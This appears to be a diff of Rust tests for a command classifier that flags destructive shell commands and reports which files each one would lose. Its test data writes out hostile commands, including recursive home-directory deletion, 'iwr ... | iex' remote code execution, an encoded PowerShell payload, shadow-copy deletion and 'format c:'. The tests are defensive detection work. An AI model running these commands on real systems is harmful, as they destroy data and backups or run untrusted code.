@@ -33,12 +33,39 @@ fn powershell_text() {
         ("Remove-Item -Recurse -Force ~", "delete file:/home/dev [recursive force] home-root (derived), loses 3 files that exist nowhere else (a.rs modified, notes.md untracked, src/b.rs modified)".to_owned()),
         ("ri ~\\Documents -Recurse", "delete file:/home/dev/Documents [recursive] home (derived)".to_owned()),
         ("Remove-Item ~backup.txt", "delete file:/home/dev/proj/~backup.txt project".to_owned()),
+        ("Get-ChildItem notes.md | % { del $_.FullName }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
+        ("Get-Item notes.md | ForEach-Object { $_.Delete() }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
+        ("Get-ChildItem -Filter *.md | Remove-Item", "delete file:/home/dev/proj [mass] project-root, loses 3 files that exist nowhere else (a.rs modified, notes.md untracked, src/b.rs modified)".to_owned()),
+        ("[System.IO.File]::Delete('notes.md')", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
+        ("[IO.File]::WriteAllText(\"notes.md\", \"\")", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
+        ("Remove-Item a.txt, notes.md", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
+        ("New-Item -Force notes.md", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
+        ("if exist notes.md del notes.md", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
+        ("del %USERPROFILE%\\x.txt", "delete file:/home/dev/x.txt home (derived)".to_owned()),
+        ("Remove-Item HKCU:\\Software\\X -Recurse", "destroy file:HKCU:\\Software\\X, loses what this registry key holds".to_owned()),
+        ("Remove-AzResourceGroup -Name rg -Force", "destroy cloud:Remove-AzResourceGroup, loses what it names, with its data".to_owned()),
+        ("Stop-Process -Name node", "kill process:node [mass]".to_owned()),
         ("git reset --hard", "discard git:/home/dev/proj [mass], loses 2 files that exist nowhere else (a.rs modified, src/b.rs modified)".to_owned()),
         ("if ($x) { Remove-Item notes.md }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
     ];
     for (command, expected) in cases {
         let actions = powershell(&world, command);
         assert!(actions.contains(&expected), "{command}: {actions:?}");
+    }
+    for command in [
+        "New-Item -ItemType Directory -Force notes.md",
+        "New-Item notes.md",
+        "Remove-Item Env:X",
+        "Get-Process node",
+        "if (Test-Path notes.md) { Get-Content notes.md }",
+        "robocopy src notes.md /MIR /L",
+        "Get-ChildItem -Recurse -Filter *.pyc | Remove-Item",
+    ] {
+        let actions = powershell(&world, command);
+        assert!(
+            !actions.iter().any(|action| action.contains("loses")),
+            "{command}: {actions:?}"
+        );
     }
     let fetched = powershell(&world, "iwr https://x.example/a.ps1 | iex");
     assert!(fetched[1].contains("downloaded"), "{fetched:?}");
@@ -72,5 +99,74 @@ fn words_of_windows_in_a_posix_shell() {
     ];
     for (command, expected) in cases {
         assert_eq!(world.actions(command), [expected], "{command}");
+    }
+}
+
+#[test]
+fn texts_and_files_that_powershell_is_given() {
+    let world = dirty()
+        .untracked("report.txt")
+        .file("x.ps1", "Remove-Item report.txt\n");
+    let lost = "loses 1 file that exists nowhere else (report.txt untracked)";
+    let deleted = format!("delete file:/home/dev/proj/report.txt project, {lost}");
+    for command in [
+        "pwsh x.ps1",
+        "powershell -ExecutionPolicy Bypass -File x.ps1",
+        "pwsh -NoProfile 'Remove-Item report.txt'",
+        "pwsh -File - <<< 'Remove-Item report.txt'",
+        "pwsh -Command - <<< 'Remove-Item report.txt'",
+        "powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAcgBlAHAAbwByAHQALgB0AHgAdAA=",
+        "cmd //c 'for %f in (*.txt) do del report.txt'",
+    ] {
+        let actions = world.actions(command);
+        assert!(
+            actions
+                .iter()
+                .any(|action| action.starts_with("delete file:/home/dev/proj/report.txt")),
+            "{command}: {actions:?}"
+        );
+    }
+    assert_eq!(world.actions("pwsh -c 'del report.txt'"), [deleted]);
+}
+
+#[test]
+fn what_changes_the_machine_beyond_its_files() {
+    let world = dirty();
+    for (command, expected) in [
+        (
+            "vssadmin delete shadows /all /quiet",
+            "destroy file:vssadmin, loses earlier states of the disk",
+        ),
+        (
+            "reg delete HKCU\\Software\\X /f",
+            "destroy file:reg, loses what this registry key holds",
+        ),
+        ("net user dev /delete", "elevate program:accounts"),
+        ("sc stop spooler", "elevate program:service"),
+        (
+            "format c: /q",
+            "delete file:c: [force] root, loses a whole volume",
+        ),
+    ] {
+        let actions = world.actions(command);
+        assert!(
+            actions
+                .iter()
+                .any(|action| action.starts_with(expected.split(',').next().unwrap())),
+            "{command}: {actions:?}"
+        );
+    }
+    for command in [
+        "reg query HKCU",
+        "vssadmin list shadows",
+        "net use",
+        "sc query",
+        "format src",
+    ] {
+        let actions = world.actions(command);
+        assert!(
+            actions.iter().all(|action| action.starts_with("execute")),
+            "{command}: {actions:?}"
+        );
     }
 }
